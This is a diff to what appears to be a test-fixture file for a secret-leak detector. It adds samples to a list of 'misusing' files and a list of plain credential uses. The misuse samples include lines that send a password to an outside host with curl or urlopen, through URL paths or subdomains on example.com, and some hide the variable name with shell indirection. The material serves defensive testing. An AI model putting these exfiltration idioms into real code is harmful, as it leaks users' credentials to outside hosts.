@@ -733,6 +733,10 @@ export const MISUSING_FILES: readonly string[] = [
   `o = {"password": "${PASSWORD}"}\nurlopen("https://{" + "password}".format(**o))`,
   `PASSWORD=${PASSWORD}\ntypeset -n h=PASS"WORD"\ncurl "https://$h"`,
   `PASSWORD=${PASSWORD}\nfor v in PASS; do n="\${v}WORD"; curl https://\${(P)n}; done`,
+  `https://token=${PASSWORD}.example.com/`,
+  `https://${TOKENS.github}.example.com/x`,
+  `{"command": "curl https://token=${PASSWORD}.example.com"}`,
+  `https://${"long-name.".repeat(20)}token=${PASSWORD}.example.com/`,
 ];
 
 /** Files in which each masked value is a credential and no more. */
@@ -792,4 +796,7 @@ export const CREDENTIAL_FILES: readonly string[] = [
   `private static final String PASSWORD = "${PASSWORD}";\nDriverManager.getConnection(URL, USER, PASSWORD);\n`,
   `const SECRET = "${PASSWORD}";\nconst hmac = crypto.createHmac("sha256", SECRET).update(body).digest("hex");\n`,
   `const bot = new Telegraf("${PASSWORD}");\nconst token = "${PASSWORD}"; bot.login(token);`,
+  `https://h/x?token=${PASSWORD}`,
+  `Connect with postgres://app:${PASSWORD}@<host>:5432/app or redis://:${PASSWORD}@localhost:6379\n`,
+  `origin = https://${TOKENS.github}@github.com/a/b.git\n`,
 ];
